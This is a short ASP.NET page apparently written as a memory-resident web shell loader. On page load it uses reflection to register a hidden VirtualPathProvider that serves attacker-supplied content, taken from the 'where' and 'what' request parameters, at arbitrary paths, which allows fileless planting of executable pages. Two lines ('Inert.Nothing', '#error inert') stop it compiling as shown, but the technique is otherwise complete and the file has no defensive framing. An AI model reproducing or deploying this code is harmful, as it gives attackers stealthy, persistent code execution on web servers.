<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Web.Hosting" %>
<script runat="server">
#error inert
public class GhostProvider : VirtualPathProvider
{
    string dir, body;
    public GhostProvider(string d, string b) { dir = d; body = b; }
    public override bool FileExists(string p) { return p.Contains(dir) || Previous.FileExists(p); }
    public override VirtualFile GetFile(string p) { return p.Contains(dir) ? new GhostFile(p, body) : Previous.GetFile(p); }
}
public class GhostFile : VirtualFile
{
    string t;
    public GhostFile(string p, string b) : base(p) { t = b; }
    public override System.IO.Stream Open() { return new System.IO.MemoryStream(System.Text.Encoding.UTF8.GetBytes(t)); }
}
protected void Page_Load(object s, EventArgs e)
{
    var m = typeof(HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", System.Reflection.BindingFlags.NonPublic | System.Reflection.BindingFlags.Static);
    m.Invoke(null, new object[] { new GhostProvider(Request["where"], Request["what"]) });
}
</script>
